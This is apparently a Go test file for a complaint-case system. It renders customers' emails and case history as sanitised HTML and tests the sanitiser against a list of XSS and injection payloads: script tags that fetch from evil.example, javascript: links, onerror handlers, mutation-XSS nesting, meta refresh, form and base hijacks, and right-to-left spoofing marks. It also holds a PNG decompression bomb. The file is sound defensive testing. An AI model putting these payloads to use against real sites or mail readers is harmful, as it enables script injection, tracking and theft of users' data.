package document

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/html"

	"complaintd/casefile"
	"complaintd/casefile/workday"
	"complaintd/inbox/message"
)

var caseFiles = sync.OnceValue(func() *CaseFiles {
	london, err := time.LoadLocation("Europe/London")
	if err != nil {
		panic(err)
	}
	return NewCaseFiles(CaseFileOptions{Company: "Hexpress Healthcare Limited", Location: london, Procedure: casefile.Procedure{PromiseDays: 10, NextStageDays: 28,
		Stages: []casefile.Stage{{Name: "stage_1", WorkingDays: 5, HandOverAfter: 3}, {Name: "stage_2", WorkingDays: 10}}}})
})

func when(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04", s)
	if err != nil {
		panic(err)
	}
	return t
}

var (
	kari = casefile.Address{Name: "Kari Nordmann", Email: "kari@example.net"}
	anne = casefile.Address{Name: "Anne Agent", Email: "anne@hexpress.example"}
)

// aPicture is a small PNG.
func aPicture(shade uint8) []byte {
	img := image.NewRGBA(image.Rect(0, 0, 240, 120))
	for x := range 240 {
		for y := range 120 {
			img.Set(x, y, color.RGBA{shade, uint8(x), uint8(y * 2), 255})
		}
	}
	var out bytes.Buffer
	if err := png.Encode(&out, img); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// mailOf is a mail as the clerk reads it again.
func mailOf(raw string, from casefile.Address, at time.Time, change func(*casefile.Incoming)) *casefile.Incoming {
	raw = strings.ReplaceAll(raw, "\n", "\r\n")
	in := &casefile.Incoming{Raw: []byte(raw), Size: int64(len(raw)), ReceivedAt: at, From: from, AnswerTo: from, Form: casefile.Human}
	if m, err := message.Parse(in.Raw, message.DefaultLimits()); err == nil {
		in.Subject, in.Text, in.NewText = m.Header.Text("Subject"), m.Text, m.Text
		for _, a := range m.Attachments {
			in.Attachments = append(in.Attachments, casefile.Attachment{Name: a.Name, Type: a.Type, Bytes: a.Bytes})
		}
	}
	if change != nil {
		change(in)
	}
	return in
}

// htmlMail is a mail of HTML alone.
func htmlMail(body string) string {
	return "From: kari@example.net\nSubject: Hello\nContent-Type: text/html; charset=utf-8\n\n" + body
}

func base64Lines(b []byte) string {
	text := base64.StdEncoding.EncodeToString(b)
	var out strings.Builder
	for len(text) > 76 {
		out.WriteString(text[:76] + "\n")
		text = text[76:]
	}
	return out.String() + text
}

// richMail has HTML with everything that mails have: links that track, remote and
// inner pictures, and files.
func richMail() string {
	return "From: Kari Nordmann <kari@example.net>\nSubject: Where is my parcel?\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=M\n\n" +
		"--M\nContent-Type: multipart/alternative; boundary=A\n\n" +
		"--A\nContent-Type: text/plain; charset=utf-8\n\nHello, my order 12345678 has not come. Please call me.\n" +
		"--A\nContent-Type: multipart/related; boundary=R\n\n" +
		"--R\nContent-Type: text/html; charset=utf-8\n\n" +
		`<html><head><style>body{background:url(http://evil.example/b.png)}</style><link rel="stylesheet" href="http://evil.example/s.css"></head><body>
<p>Hello, my order <b>12345678</b> has not come. Please <i>call me</i>.</p>
<p>See the <a href="https://track.example/parcel/77?u=kari&amp;id=9">tracking page</a>, and this: <img src="cid:label@x" alt="label"></p>
<table><tr><td>Order</td><td>12345678</td></tr><tr><td>Paid</td><td>499 kr</td></tr></table>
<img src="http://evil.example/pixel.gif" width="1" height="1"><img src="http://evil.example/banner.jpg" alt="Spring sale">
</body></html>` +
		"\n--R\nContent-Type: image/png; name=label.png\nContent-ID: <label@x>\nContent-Transfer-Encoding: base64\n\n" + base64Lines(aPicture(40)) + "\n--R--\n--A--\n" +
		"--M\nContent-Type: application/pdf; name=\"receipt.pdf\"\nContent-Disposition: attachment; filename=\"receipt.pdf\"\nContent-Transfer-Encoding: base64\n\n" + base64Lines([]byte("%PDF-1.4 not really")) +
		"\n--M\nContent-Type: application/octet-stream; name=\"photo.dat\"\nContent-Disposition: attachment; filename=\"photo.dat\"\nContent-Transfer-Encoding: base64\n\n" + base64Lines(aPicture(200)) +
		"\n--M\nContent-Type: image/png; name=\"script.png\"\nContent-Disposition: attachment; filename=\"script.png\"\n\n<svg onload=alert(1)>\n--M--\n"
}

// richFile is a case with everything that a case can have.
func richFile() *casefile.File {
	clock := casefile.Clock{Stage: 1, RequestedAt: when("2026-11-20 18:12"), DayZero: workday.Date{Year: 2026, Month: 11, Day: 23},
		Deadline: when("2026-12-11 17:00"), FirstDeadline: when("2026-11-30 17:00"), ExtendedAt: when("2026-11-27 10:00"), Reason: "the carrier looks for it",
		BreachedAt: when("2026-12-04 17:00"), Answer: casefile.Response{At: when("2026-12-08 12:00"), Verdict: casefile.Rejected, Cause: "carrier", By: "anne@hexpress.example"}}
	c := casefile.Case{Number: 123, Reference: "KL-26-000123-7", Version: 9, Mailbox: "complaints@hexpress.example", Subject: "Where is my parcel?",
		State: casefile.Open, Owner: casefile.OwnerDirector, Department: "delivery", Language: "en",
		Parties: []casefile.Party{{Address: kari, Role: casefile.Complainant},
			{Address: casefile.Address{Name: "Ola \u202Egnp.exe", Email: "ola@example.org"}, Role: casefile.ThirdParty}},
		Facts: casefile.Facts{Name: "Kari Anne Nordmann", Orders: []string{"12345678"}, Phones: []string{"+4791234567"}, Preference: casefile.ByPhone, AsksNextStage: true,
			Address: casefile.PostalAddress{Street: "Storgata 1", Postcode: "0155", City: "Oslo", Country: "NO"}},
		OpenedAt: when("2026-11-20 18:13"), ReceivedAt: when("2026-11-20 18:12"),
		Record: casefile.Record{
			Clock: casefile.Clock{Stage: 2, RequestedAt: when("2026-12-10 09:30"), DayZero: workday.Date{Year: 2026, Month: 12, Day: 10},
				Deadline: when("2026-12-24 17:00"), FirstDeadline: when("2026-12-24 17:00")},
			Past: []casefile.Clock{clock}, Promise: when("2026-12-07 17:00"), HandledBy: "Dora Director", LastAnswer: "",
			Corrected:   casefile.Correction{Phones: []string{"+4791234567"}},
			Commitments: []casefile.Commitment{{Due: when("2026-12-15 17:00"), Words: "a refund of 499 kr"}, {Due: when("2026-12-01 17:00"), Words: "a new parcel", Done: true}},
		}}
	event := func(at string, kind casefile.EventKind, why string, mail, letter int64, by string) casefile.FiledEvent {
		return casefile.FiledEvent{Event: casefile.Event{At: when(at), Kind: kind, Reason: why, Mail: mail != 0, Letter: letter, By: by}, MailID: mail}
	}
	return &casefile.File{Case: c,
		Events: []casefile.FiledEvent{
			event("2026-11-20 18:13", casefile.EventCaseOpened, "received Fri 20 Nov 2026 18:12, after closing or on a closed day; day 0 is 2026-11-23; 5 working days; Mon 30 Nov 2026 17:00", 11, 0, ""),
			event("2026-11-20 18:14", casefile.EventLetterSent, "acknowledgement: 250 ok", 0, 21, ""),
			event("2026-11-24 09:00", casefile.EventStaffMail, "a colleague's mail, by its return address", 12, 0, "anne@hexpress.example"),
			event("2026-11-24 09:00", casefile.EventActed, "a note", 12, 0, "anne@hexpress.example"),
			event("2026-11-27 10:00", casefile.EventActed, "extended by 4 working days, from Mon 30 Nov 2026 17:00 to Fri 4 Dec 2026 17:00", 0, 0, "anne@hexpress.example"),
			event("2026-12-04 17:00", casefile.EventBreached, "no final response by Fri 4 Dec 2026 17:00; the customer is told Fri 11 Dec 2026 17:00", 0, 0, ""),
			event("2026-12-08 12:00", casefile.EventAnswered, "rejected; given Tue 8 Dec 2026 12:00; the next stage may be asked for until the end of 2027-01-05", 0, 0, ""),
			event("2026-12-10 09:31", casefile.EventNextStage, "stage 2: the customer asks for it; received Thu 10 Dec 2026 09:30; day 0 is 2026-12-10; 10 working days; Thu 24 Dec 2026 17:00", 13, 0, ""),
		},
		Mails: []casefile.FiledMail{
			{ID: 11, Kind: casefile.KindComplaint, Reason: "human mail, no known case", Size: 4100, Mail: mailOf(richMail(), kari, when("2026-11-20 18:12"), func(in *casefile.Incoming) {
				in.Evidence = []casefile.Evidence{
					{Field: "order_numbers", Value: "12345678", Text: "my order 12345678", Rule: "en: a number after the word order"},
					{Field: "contact_preference", Value: "phone", Text: "Please call me", Rule: "en: asks to be phoned"}}
			})},
			{ID: 12, Kind: casefile.KindStaff, Reason: "a colleague's mail", Size: 900, Mail: mailOf("From: anne@hexpress.example\nSubject: Re: New case\n\n#note\n\nShe sounded angry <b>&</b> tired.\n", anne, when("2026-11-24 09:00"), func(in *casefile.Incoming) {
				in.Staff = &casefile.StaffMail{Acts: []casefile.Act{{Do: casefile.Note{}, Words: "She sounded angry <b>&</b> tired."}}}
			})},
			{ID: 13, Kind: casefile.KindFollowup, Reason: "answers a mail of the case", Size: 700, Mail: mailOf("From: kari@example.net\nSubject: Re: Your complaint\n\nI want the Director to look at this.\n\n> We have not upheld it.\n", kari, when("2026-12-10 09:30"), func(in *casefile.Incoming) {
				in.NewText = "I want the Director to look at this."
				in.Evidence = []casefile.Evidence{{Field: "asks_next_stage", Value: "true", Text: "want the Director to look", Rule: "en: asks for a review"}}
			})},
		},
		Letters: []casefile.FiledLetter{
			{ID: 21, Name: casefile.Acknowledgement, Recipient: kari.Email, State: "sent", QueuedAt: when("2026-11-20 18:13"), SettledAt: when("2026-11-20 18:14"), Subject: "We have received your complaint [KL-26-000123-7]", Words: "Hello Kari,\n\nwe have received your complaint."},
			{ID: 22, Name: casefile.CaseOpened, Recipient: "anne@hexpress.example", State: "sent", QueuedAt: when("2026-11-20 18:13"), SettledAt: when("2026-11-20 18:14"), Subject: "New case", Words: "A new case."},
			{ID: 23, Name: casefile.CaseOpened, Recipient: "bob@hexpress.example", State: "refused", QueuedAt: when("2026-11-20 18:13"), SettledAt: when("2026-11-20 18:15"), Reason: "550 no such user", Subject: "New case", Words: "A new case."},
			{ID: 24, Name: casefile.FinalResponse, Recipient: kari.Email, State: "sent", QueuedAt: when("2026-12-08 11:58"), SettledAt: when("2026-12-08 12:00"), Subject: "Our final response", Words: "Hello Kari,\n\nyour parcel was delivered on 19 November."},
			{Name: casefile.NextStageOpened, Recipient: kari.Email, State: "queued", QueuedAt: when("2026-12-10 09:31"), Subject: "Your review", Words: "Hello Kari,\n\nthe Director answers by 24 December."},
		}}
}

func write(t testing.TB, f *casefile.File, language string, limit int) string {
	t.Helper()
	out, err := caseFiles().HTML(f, language, when("2026-12-10 09:31"), limit)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// TestCaseFileGolden holds the document as it was last looked at by a person. Run
// with -update, look at it in a browser, and read the difference.
func TestCaseFileGolden(t *testing.T) {
	for _, language := range []string{"nb", "en"} {
		got := write(t, richFile(), language, LargestCaseFile)
		if again := write(t, richFile(), language, LargestCaseFile); again != got {
			t.Errorf("%s: the same file makes other bytes", language)
		}
		name := filepath.Join("testdata", "casefile", language+".html")
		if *update {
			if err := os.WriteFile(name, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if got != string(want) {
			t.Errorf("%s differs from what was last looked at", name)
		}
	}
}

// TestBothLanguagesSayAll: neither has a key that the other lacks, and every
// state, kind, letter and event has a name.
func TestBothLanguagesSayAll(t *testing.T) {
	en, nb := readWords("en"), readWords("nb")
	for what, pair := range map[string][2]map[string]string{
		"texts": {en.Texts, nb.Texts}, "states": {en.States, nb.States}, "closings": {en.Closings, nb.Closings}, "owners": {en.Owners, nb.Owners},
		"departments": {en.Departments, nb.Departments}, "outcomes": {en.Outcomes, nb.Outcomes}, "kinds": {en.Kinds, nb.Kinds}, "letters": {en.Letters, nb.Letters},
		"letter_states": {en.LetterStates, nb.LetterStates}, "events": {en.Events, nb.Events}, "roles": {en.Roles, nb.Roles}, "channels": {en.Channels, nb.Channels},
		"fields": {en.Fields, nb.Fields}, "languages": {en.Languages, nb.Languages},
	} {
		for i, words := range pair {
			for key, text := range words {
				if other := pair[1-i][key]; other == "" || text == "" {
					t.Errorf("%s: %s is not in both languages", what, key)
				} else if strings.Count(text, "{") != strings.Count(other, "{") {
					t.Errorf("%s: %s has other placeholders", what, key)
				}
			}
		}
	}
	for _, verdict := range casefile.Verdicts() {
		if en.Outcomes[string(verdict)] == "" {
			t.Errorf("the outcome %s has no name", verdict)
		}
	}
	for _, owner := range casefile.Owners() {
		if en.Owners[string(owner)] == "" {
			t.Errorf("the owner %s has no name", owner)
		}
	}
}

// TestReasonsInNorwegian: what a history notes is told in the reader's language,
// dates included, and nothing of it is lost.
func TestReasonsInNorwegian(t *testing.T) {
	w := readWords("nb")
	for why, want := range map[string]string{
		"received Fri 20 Nov 2026 18:12, after closing or on a closed day; day 0 is 2026-11-23": "mottatt fredag 20. november 2026 kl. 18.12, etter stengetid eller på en stengt dag; dag 0 er mandag 23. november 2026",
		"to head: no final response after 3 working days":                                       "til Head of Customer Services: ikke noe endelig svar etter 3 arbeidsdager",
		"no closed: the customer gets no automatic letter: undelivered":                         "ikke Saken avsluttet: kunden får ingen automatiske brev: et brev til kunden har kommet i retur",
		"assigned to delivery":    "overført til Levering",
		"acknowledgement: 250 ok": "Bekreftelse: 250 ok",
		"something quite new":     "something quite new",
	} {
		if got := w.reason(why); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", why, got, want)
		}
	}
}

// hostile are ways to make a document run or load something, or look like
// something else.
var hostile = []string{
	`<script>fetch("http://evil.example/s")</script>`,
	`<SCRIPT SRC=http://evil.example/s.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror="new Image().src='http://evil.example/e'">`,
	`<img src="http://evil.example/i.png" srcset="http://evil.example/i2.png 2x">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href=" &#106;avascript:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" ping="http://evil.example/ping">click</a>`,
	`<a href="http://evil.example/x?id=kari">your bank</a>`,
	`<svg onload="alert(1)"><image href="http://evil.example/svg.png"/><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<p style="background:url(http://evil.example/bg.png);position:fixed;top:0;left:0;width:100%;height:100%">x</p>`,
	`<style>@import "http://evil.example/c.css"; body{background:url(http://evil.example/c.png)}</style>`,
	`<link rel="stylesheet" href="http://evil.example/l.css"><link rel="prefetch" href="http://evil.example/p"><link rel="dns-prefetch" href="//evil.example">`,
	`<meta http-equiv="refresh" content="0;url=http://evil.example/m">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<iframe src="http://evil.example/f"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="http://evil.example/o"></object><embed src="http://evil.example/em"><applet code=x></applet>`,
	`<base href="http://evil.example/">`,
	`<form action="http://evil.example/post"><input name=q autofocus onfocus=alert(1)><button formaction="http://evil.example/b">Send</button></form>`,
	`<video src="http://evil.example/v" poster="http://evil.example/vp" autoplay></video><audio src="http://evil.example/a"></audio>`,
	`<table background="http://evil.example/t.png"><tr><td background="http://evil.example/td.png">x</td></tr></table>`,
	`<body background="http://evil.example/body.png" onload=alert(1)>`,
	`<div id="history" class="colleague" onclick="alert(1)">x</div>`,
	`</div></div></article></section></main><h1>Upheld</h1><article class="us">We pay you 10 000 kr.</article>`,
	`--></style></script></textarea></title><script>alert(1)</script>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>`,
	`<!--[if mso]><img src="http://evil.example/mso.png"><![endif]-->`,
	`<?xml-stylesheet href="http://evil.example/x.xsl"?>`,
	`<p>{{.W.T "x"}} {{template "entry" .}}</p>`,
	`<input type="image" src="http://evil.example/in.png"><isindex><keygen><marquee onstart=alert(1)>x</marquee>`,
	`<p>` + "\u202Eexe.gnp\u202C" + ` &#x202E;abc</p>`,
	strings.Repeat("<div>", 3000) + "deep" + strings.Repeat("</div>", 3000),
	strings.Repeat("<b><i><u>", 200),
}

// mayStand are the elements that a document consists of, with the attributes of
// each that may stand in it.
var mayStand = map[string]string{"html": "lang", "head": "", "meta": "charset http-equiv content name", "title": "", "style": "", "body": "", "main": "",
	"header": "", "nav": "aria-label", "a": "href", "section": "id", "article": "class id", "h1": "dir", "h2": "", "h3": "", "h4": "", "h5": "", "h6": "",
	"p": "class dir", "span": "class", "dl": "", "dt": "", "dd": "dir", "ul": "class", "ol": "class", "li": "", "time": "", "div": "class dir", "br": "", "strong": "",
	"q": "dir", "bdi": "", "figure": "", "img": "src alt", "table": "dir", "tbody": "", "thead": "", "tfoot": "", "tr": "", "td": "colspan rowspan", "th": "colspan rowspan",
	"b": "", "i": "", "u": "", "em": "", "pre": "", "hr": "", "blockquote": "", "center": "", "font": "", "small": ""}

// active tells what in a document can run, load or pretend.
func active(t *testing.T, doc string) (faults []string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	fault := func(format string, args ...any) { faults = append(faults, fmt.Sprintf(format, args...)) }
	count := map[string]int{}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			if strings.ContainsAny(n.Data, "\u202e\u202d\u2066") {
				fault("a mark that turns the direction of writing")
			}
			continue
		}
		count[n.Data]++
		attributes, known := mayStand[n.Data]
		if !known {
			fault("an element <%s>", n.Data)
		}
		for _, a := range n.Attr {
			if !strings.Contains(" "+attributes+" ", " "+a.Key+" ") {
				fault("an attribute %s of <%s>", a.Key, n.Data)
			}
			if a.Key == "href" && !strings.HasPrefix(a.Val, "#") || a.Key == "src" && !strings.HasPrefix(a.Val, "data:image/") {
				fault("%s leads to %.60s", a.Key, a.Val)
			}
		}
		if n.Data == "article" && n.Parent.Data != "section" || n.Data == "section" && n.Parent.Data != "main" {
			fault("<%s> within <%s>", n.Data, n.Parent.Data)
		}
	}
	if count["style"] != 1 || count["h1"] > 2 || count["main"] != 1 || count["body"] != 1 {
		fault("elements that only the layout has: %v", count)
	}
	if !strings.Contains(doc, `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'`) {
		fault("no policy")
	}
	return faults
}

// hostileFile is a case all of which was written by somebody with bad intentions.
func hostileFile(bodies ...string) *casefile.File {
	f := richFile()
	f.Mails = nil
	for i, body := range bodies {
		f.Mails = append(f.Mails, casefile.FiledMail{ID: int64(i + 1), Kind: casefile.KindComplaint, Mail: mailOf(htmlMail(body), kari, when("2026-11-20 18:12"), nil)})
	}
	return f
}

// TestNothingInAMailActs: whatever HTML a mail has, nothing of it runs, loads or
// stands where only the document may.
func TestNothingInAMailActs(t *testing.T) {
	for _, body := range hostile {
		for _, around := range []string{"%s", "<p>Before %s after</p>", "<table><tr><td>%s"} {
			doc := write(t, hostileFile(fmt.Sprintf(around, body)), "en", LargestCaseFile)
			for _, fault := range active(t, doc) {
				t.Errorf("%.120s\nin %s: %s", body, around, fault)
			}
		}
	}
}

// TestNothingInTextActs: no other text of strangers is markup: names, subjects,
// file names, evidence, letters, the colleagues' own.
func TestNothingInTextActs(t *testing.T) {
	for _, text := range hostile {
		f := richFile()
		f.Case.Subject, f.Case.Facts.Name, f.Case.Facts.OnBehalfOf, f.Case.HandledBy, f.Case.Past[0].Reason = text, text, text, text, text
		f.Case.Parties[0].Name, f.Case.Parties[0].Email, f.Case.Commitments[0].Words, f.Case.Department = text, text, text, text
		f.Events[0].Reason, f.Events[0].By, f.Letters[0].Words, f.Letters[0].Subject, f.Letters[0].Recipient = text, text, text, text, text
		for _, m := range f.Mails {
			m.Mail.Raw, m.Mail.Subject, m.Mail.Text, m.Mail.NewText, m.Mail.From.Name = nil, text, text+"\n> x", text, text
			m.Mail.Attachments = []casefile.Attachment{{Name: text, Type: text}}
			m.Mail.Evidence = []casefile.Evidence{{Field: "name", Value: text, Text: text, Rule: text}}
		}
		for _, fault := range active(t, write(t, f, "en", LargestCaseFile)) {
			t.Errorf("%.120s: %s", text, fault)
		}
	}
}

// TestWordsOfAMailStay: taking a mail's HTML apart loses none of its words.
func TestWordsOfAMailStay(t *testing.T) {
	doc := write(t, hostileFile("<p>Hello <span style='color:red'>my <font color=red>parcel</font></span> is <a href='https://track.example/p/7?u=kari'>here</a></p><title>x", "<title>all the rest of this mail stands in its title, where nobody looks</title>"), "en", LargestCaseFile)
	for _, want := range []string{"Hello my parcel is here ‹track.example/p/7›"} {
		if !strings.Contains(doc, want) {
			t.Errorf("%q is not in the document", want)
		}
	}
	if strings.Contains(doc, "u=kari") {
		t.Error("what a link knows its reader by stands in the document")
	}
	raw := "From: kari@example.net\nContent-Type: multipart/alternative; boundary=A\n\n--A\nContent-Type: text/plain\n\nThe plain text tells another story altogether, about poisoned tablets.\n--A\nContent-Type: text/html\n\n<p>All is well.</p>\n--A--\n"
	f := hostileFile()
	f.Mails = []casefile.FiledMail{{ID: 1, Kind: casefile.KindComplaint, Mail: mailOf(raw, kari, when("2026-11-20 18:12"), func(in *casefile.Incoming) {
		in.NewText = "The plain text tells another story altogether, about poisoned tablets."
	})}}
	doc = write(t, f, "en", LargestCaseFile)
	for _, want := range []string{"All is well.", "poisoned tablets"} {
		if !strings.Contains(doc, want) {
			t.Errorf("%q of a mail with two texts is not in the document", want)
		}
	}
}

// TestPicturesAreWhatTheirBytesSay, whatever they are called.
func TestPicturesAreWhatTheirBytesSay(t *testing.T) {
	doc := write(t, richFile(), "en", LargestCaseFile)
	if n := strings.Count(doc, `<img src="data:image/png;base64,`); n != 2 {
		t.Errorf("%d pictures are shown, want the inner one and photo.dat", n)
	}
	if strings.Contains(doc, `alt="script.png"`) || !strings.Contains(doc, "<bdi>script.png</bdi>") {
		t.Error("script.png is shown as a picture, or not listed")
	}
	bomb := bytes.Clone(aPicture(1))
	copy(bomb[16:24], []byte{0, 1, 0, 0, 0, 1, 0, 0}) // 65536 × 65536 pixels
	binary.BigEndian.PutUint32(bomb[29:33], crc32.ChecksumIEEE(bomb[12:29]))
	large := append(aPicture(1), make([]byte, largestPicture)...)
	for name, content := range map[string][]byte{"svg": []byte("<svg/>"), "bomb": bomb, "large": large, "nothing": nil} {
		if got := pictureType(content); got != "" {
			t.Errorf("%s is shown as %s", name, got)
		}
	}
}

// TestWhatTheScannerHeldBackIsNotShown, but named with what was found.
func TestWhatTheScannerHeldBackIsNotShown(t *testing.T) {
	for want, finding := range map[string]casefile.Finding{"held back: the virus scanner found Eicar in it": {Threat: "Eicar"},
		"held back, as it could not be examined for viruses": {Unexamined: true}} {
		f := richFile()
		for i := range f.Mails {
			e := &casefile.Examination{}
			contents, err := message.Unpack(f.Mails[i].Mail.Raw, message.DefaultLimits())
			if err != nil {
				t.Fatal(err)
			}
			for _, file := range contents.Files {
				e.Files = append(e.Files, casefile.ExaminedFile{Finding: finding, Name: file.Name, Sum: casefile.SumOf(file.Body)})
			}
			f.Mails[i].Mail.SetExamination(e)
		}
		doc := write(t, f, "en", LargestCaseFile)
		if strings.Contains(doc, "<img ") || !strings.Contains(doc, want) || !strings.Contains(doc, "photo.dat") {
			t.Errorf("pictures are shown, or it does not say %q", want)
		}
	}
}

// TestTheDocumentHasALimit: pictures go first, then the ends of long mails, then
// the oldest entries, and each is said.
func TestTheDocumentHasALimit(t *testing.T) {
	f := richFile()
	whole := len(write(t, f, "en", LargestCaseFile))
	without := write(t, f, "en", whole-1)
	if len(without) >= whole || strings.Count(without, "<img ") != 1 || !strings.Contains(without, readWords("en").T("no_room")) {
		t.Errorf("of two pictures %d are left within %d bytes: %d", strings.Count(without, "<img "), whole-1, len(without))
	}
	long := strings.Repeat("My parcel has not come. ", 40_000)
	for range 30 {
		f.Mails = append(f.Mails, casefile.FiledMail{ID: int64(len(f.Mails) + 20), Kind: casefile.KindFollowup, Mail: mailOf("From: kari@example.net\n\n"+long+"\n", kari, when("2026-12-10 09:30"), nil)})
	}
	cut := write(t, f, "en", 2<<20)
	if len(cut) > 2<<20 || !strings.Contains(cut, readWords("en").T("cut")) {
		t.Errorf("30 MB of words make a document of %d bytes", len(cut))
	}
	if strings.Contains(cut, readWords("en").T("missing")) {
		t.Error("entries are left out though the ends of mails would do")
	}
	for range 3000 {
		f.Letters = append(f.Letters, casefile.FiledLetter{Name: casefile.FollowupReceived, Recipient: "kari@example.net", State: "sent", QueuedAt: when("2026-12-10 09:30"), Words: long[:100]})
	}
	few := write(t, f, "en", 100<<10)
	if len(few) > 100<<10 || !strings.Contains(few, readWords("en").T("missing")) {
		t.Errorf("3000 letters make a document of %d bytes", len(few))
	}
}

// TestAnEmptyFile: a case of which nothing else is known has a document too.
func TestAnEmptyFile(t *testing.T) {
	for _, fault := range active(t, write(t, &casefile.File{Case: casefile.Case{Reference: "KL-26-000001-7"}}, "nb", LargestCaseFile)) {
		t.Error(fault)
	}
}

func BenchmarkCaseFile(b *testing.B) {
	files := caseFiles()
	f := richFile()
	for range 30 {
		f.Mails = append(f.Mails, f.Mails[0])
	}
	for b.Loop() {
		if _, err := files.HTML(f, "en", when("2026-12-10 09:31"), LargestCaseFile); err != nil {
			b.Fatal(err)
		}
	}
}

// longFile has words that do not want to fit: long ones, wide tables, text that
// runs from right to left.
func longFile() *casefile.File {
	f := richFile()
	word := strings.Repeat("Donaudampfschiffahrtsgesellschaft", 12)
	f.Case.Subject, f.Case.Facts.Name, f.Case.Parties[0].Email = word, "مريم الأحمد", word+"@example.net"
	wide := "<table><tr>" + strings.Repeat("<td>a cell of a table</td>", 40) + "</tr></table><pre>" + strings.Repeat("x ", 400) + "</pre><p>" + word + "</p><p dir=rtl>الطرد لم يصل</p>"
	f.Mails[0].Mail = mailOf(htmlMail(wide), kari, when("2026-11-20 18:12"), nil)
	f.Mails[2].Mail.NewText = "الطرد لم يصل\n" + word
	f.Letters[0].Words = strings.Repeat(word+"\n", 3)
	f.Events[0].Reason = word
	return f
}
